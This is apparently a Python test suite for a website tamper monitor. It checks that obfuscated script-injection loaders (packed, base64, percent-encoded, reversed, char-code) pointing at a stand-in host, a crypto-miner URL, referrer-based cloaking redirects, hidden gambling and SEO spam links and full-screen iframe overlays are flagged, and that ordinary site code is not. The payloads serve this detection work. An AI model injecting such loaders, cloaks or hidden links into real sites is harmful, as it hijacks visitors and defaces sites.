"""Injections in disguise, each once missed, and ordinary pages once suspected."""

from base64 import b64encode
from urllib.parse import quote

import pytest

from monitor.model import Sign
from monitor.read.written import loaded, readable, sends
from tests.read.test_tamper import HOSTS, SEO, page, signs, styled

TAG = "<script src='https://js.qxw7.com/a.js'></script>"
OWN = "".join(f"<li><a href='/{n}/'>{n}号栏目</a></li>" for n in range(9))
THREE = "".join(f"<a href='https://www.{name}.com/'>{name}</a>" for name in HOSTS[:3])
PACKED = (
    r"eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}("
    r"'1.2(\"<0 3=\'4://5.6/7.8\'></0>\")',9,9,'script|document|write|src|https|qxw7|com|a|js'.split('|'),0,{}))"
)
LOADERS = {
    "in pieces": "document.write('<scr'+'ipt src=\"https://qxw7.com/t.js\"></scr'+'ipt>')",
    "percent": f"document.write(unescape('{quote(TAG)}'))",
    "base 64": f"document.write(atob('{b64encode(TAG.encode()).decode()}'))",
    "packed": PACKED,
    "its name in pieces": "var a='scr',b='ipt';document.write('<'+a+b+' src=//qxw7.com/z.js></'+a+b+'>')",
    "wide": "document.write(unescape('%u003cscript src=//qxw7.com/i.js%u003e%u003c/script%u003e'))",
    "backwards": f"document.write(\"{TAG[::-1]}\".split('').reverse().join(''))",
    "with a number after it": "var e=document.createElement('script');e.src='https://qxw7.com/s/z.js?v='+Math.random()",
    "jQuery": "$.getScript('https://qxw7.com/u.js')",
    "imported": "import('https://qxw7.com/p.js')",
    "appended": "(function(){var s=document.createElement('script');s.src='//qxw7.com/a.js';document.head.appendChild(s)})()",
    "by attribute": "var s=document.createElement('script');s.setAttribute('src','https://qxw7.com/a.js');document.body.append(s)",
}


@pytest.mark.parametrize("code", LOADERS.values(), ids=LOADERS.keys())
def test_code_that_loads_a_strangers_script(code: str) -> None:
    assert signs(page(head=f"<script>{code}</script>")) == {Sign.SCRIPT}
    assert signs(page(head=f"<script src='data:text/javascript;base64,{b64encode(code.encode()).decode()}'></script>"))


@pytest.mark.parametrize("address", [
    "http://45.126.120.9/1.js", "http://45.126.120.9", "https://cdn.qxw7.com/a/3f9c1e.js", "https://qxw7.com/static/tj.js", "//tongji.qxw7.xyz/stat.js",
    "https://coinhive.com/lib/coinhive.min.js",
])  # fmt: skip
def test_addresses_no_service_has(address: str) -> None:
    assert signs(page(head=f"<script src='{address}'></script>")) == {Sign.SCRIPT}


@pytest.mark.parametrize("head", [
    "<script src='http://61.133.116.5:8080/visit/count.js'></script>", "<script src='http://10.1.2.3/a.js'></script>",
    "<script src='https://webchat.7moor.com/javascripts/7moorInit.js'></script>",
    "<script src='https://lib.baomitu.com/element-ui/index.js'></script>",
    "<script>var hm=document.createElement('script');hm.src='https://hm.baidu.com/hm.js?1'</script>",
    "<script>document.write(unescape(\"%3Cscript src='http://dcs.conac.cn/js/1.js'%3E%3C/script%3E\"))</script>",
    "<script>var s=document.createElement('script');s.src='https://'+host+'/x.js'</script>",
    "<script>var i=document.createElement('img');i.src='https://qxw7.com/1.gif'</script>",
    f"<script>{PACKED.replace('https', '/').replace('qxw7', 'js')}</script>",
])  # fmt: skip
def test_loaders_of_services_and_of_the_site_are_ordinary(head: str) -> None:
    assert page(head=head).tamper == ()


JUMPS = {
    "refresh": "<meta http-equiv='refresh' content='0;url=http://www.qxw7.com/'>",
    "telephones": "<script>if(/Android|iPhone/i.test(navigator.userAgent)){window.location.href='https://m.qxw7.com/?c=1'}</script>",
    "at once": "<script>location.replace('http://www.qxw7.com/')</script>",
    "after a while": "<script>setTimeout(\"top.location.href='http://www.qxw7.com/'\",100)</script>",
}


@pytest.mark.parametrize("head", JUMPS.values(), ids=JUMPS.keys())
def test_a_page_with_something_to_show_sends_nobody_to_strangers(head: str) -> None:
    assert signs(page(OWN, head=head)) == {Sign.CLOAK}
    assert page(f"{OWN}<a href='http://www.qxw7.com/about'>新站</a>", head=head).tamper == (), "it says so itself"


@pytest.mark.parametrize("head", [
    "<meta http-equiv='refresh' content='600'>", "<meta http-equiv='refresh' content='0;url=http://www.sheng.gov.cn/'>",
    "<script>function go(){location.href='http://www.qxw7.com/'}</script>",
    "<script>$('.b').click(x);location.href='http://www.qxw7.com/'</script>",
    "<script>location.href='http://www.qxw7.com/s?q='+word</script>",
    "<script>if(/iPhone/.test(navigator.userAgent)){location.href='http://m.sheng.gov.cn/'}</script>",
])  # fmt: skip
def test_jumps_of_the_site_are_ordinary(head: str) -> None:
    assert page(OWN, head=head).tamper == ()


LINKS = {
    "for browsers without scripts": f"<noscript>{SEO}</noscript>",
    "three of them, without a name": styled("display:none", THREE),
    "a paragraph of the text": f"<div class='content'><p style='visibility:hidden'>{SEO}</p></div>",
    "pinyin": styled("display:none", "<a href='http://www.abcd1.com/'>baijiale</a>"),
    "in a box of the page": f"<div class='cont'><div>{OWN}</div><div style='display:none'>{SEO}</div></div>",
    "folded by jQuery": f"<div class='z9'>{SEO}</div><script>$('.z9').hide();</script>",
    "folded by its style": f"<div id='z9'>{SEO}</div><script>$('#z9').css('display','none');</script>",
    "a name nobody knows": styled("display:none", "<a href='http://www.abcd1.com/'>某某国际娱乐官网</a>"),
    "diplomas": styled("display:none", "<a href='http://www.abcd1.com/'>本科毕业证样本</a>"),
    "optimisers": f"<div class='list' style='display:none'>{THREE}<a href='http://www.qrst5.com/'>黑帽SEO</a></div>",
}


@pytest.mark.parametrize("block", LINKS.values(), ids=LINKS.keys())
def test_links_out_of_sight_in_other_ways(block: str) -> None:
    assert Sign.HIDDEN_LINKS in signs(page(block))


@pytest.mark.parametrize("block", [
    f"<div class='swiper-slide' style='position:absolute;left:-9999px'>{THREE}</div>",
    f"<div class='sel'><ul style='display:none'><li>{SEO.replace('><', '></li><li><')}</li></ul></div>",
    f"<div class='m7' style='display:none'>{THREE}</div>",
    "<noscript><img src='https://qxw7.com/1.gif'><a href='https://qxw7.com/'>统计</a></noscript>",
    f"<div class='foot'><font color='#fff'>{SEO}</font></div>",
    "<ul><li><a href='/1'>传奇私服案一审宣判</a></li><li><a href='/2'>竞彩足球投注站征召公告</a></li><li><a href='/3'>半岛体育公园开放</a></li><li><a href='/4'>严查“牛皮癣医院”小广告</a></li></ul>",
    "<p>Sildenafil (Viagra) was found in health food</p>",
])  # fmt: skip
def test_what_was_once_suspected(block: str) -> None:
    assert page(block).tamper == ()


def test_a_frame_that_code_lays_over_the_page() -> None:
    code = "if(/iPhone/.test(navigator.userAgent))document.write(\"<iframe src='http://m.qxw7.com/' style='position:fixed;width:100%'></iframe>\")"
    assert signs(page(f"<script>{code}</script>")) == {Sign.FRAME}
    assert page(f"<script>{code.replace('fixed', 'static')}</script>").tamper == ()
    assert page(f"<script>{code.replace('qxw7.com', 'sheng.gov.cn')}</script>").tamper == ()


@pytest.mark.parametrize("tag", [
    "<iframe src='https://qxw7.com/?h' style='width:0;height:0;border:none'></iframe>",
    "<object data='http://qxw7.com/' style='position:fixed;top:0' width='100%' height='100%'></object>",
])  # fmt: skip
def test_what_is_as_good_as_a_frame(tag: str) -> None:
    assert signs(page(tag)) == {Sign.FRAME}


def test_a_frame_that_code_appends() -> None:
    code = "var f=document.createElement('iframe');f.src='http://qxw7.com/';f.style.cssText='position:fixed;top:0';document.body.append(f)"
    assert signs(page(f"<script>{code}</script>")) == {Sign.FRAME}
    assert page(f"<script>{code.replace('position:fixed;', '')}</script>").tamper == ()


def test_a_cloak_in_base_64() -> None:
    code = "if(/baidu|sogou/.test(document.referrer)){location.href='http://qxw7.com/'}"
    assert Sign.CLOAK in signs(page(head=f"<script>eval(atob('{b64encode(code.encode()).decode()}'))</script>"))


def test_numbers_in_a_list() -> None:
    numbers = ",".join(str(ord(letter)) for letter in TAG)
    assert signs(page(head=f"<script>var c=[{numbers}];document.write(String.fromCharCode.apply(null,c))</script>"))
    maker = ",".join(str(ord(letter)) for letter in "s=document.createElement('script');s.src='//qxw7.com/a.js'")
    assert signs(page(head=f"<script>eval(String.fromCharCode({maker}))</script>")) == {Sign.CLOAK}
    assert page(head=f"<script>var c=[{'12,' * 40}3];x(String.fromCharCode(c[1]))</script>").tamper == ()


def test_a_cloak_in_numbers() -> None:
    words = ("baidu", "referrer", "http://qxw7.com", "location")
    coded = ",".join("'" + "".join(f"\\x{ord(letter):02x}" for letter in word) + "'" for word in words)
    code = f"var _0=[{coded}];if(document[_0[1]].indexOf(_0[0])>0){{window[_0[3]]=_0[2]}}"
    assert signs(page(head=f"<script>{code}</script>")) & {Sign.CLOAK}


@pytest.mark.parametrize(
    "title",
    [
        "ＢＥＴ３６５备用网址",
        "真人娱樂-百家樂在線投註",
        "bеt365体育",
        "久久精品国产av麻豆",
        "free porn videos",
        "亚洲欧美国产综合在线",
        "幸运飞艇开奖记录-极速赛车",
        "乐鱼全站app官网登录",
    ],
)
def test_a_title_in_other_letters(title: str) -> None:
    assert signs(page(title=title)) == {Sign.TITLE}


def test_keywords_that_name_what_the_title_fights() -> None:
    assert page(title="警方揭秘网络赌博", head="<meta name='keywords' content='百家乐,老虎机'>").tamper == ()


def test_hostile_code_costs_little() -> None:
    for code in (
        "eval('" * 9000,
        "}('a',62,9,'" + "|" * 20_000 + "'.split('|')",
        "<script src=" * 5000,
        "atob('=')" * 900,
        "}('a',99,1,'b'.split('|')",
    ):
        assert loaded(code + "document.write") == []
        assert sends(code + "location") == []
        assert readable(code)
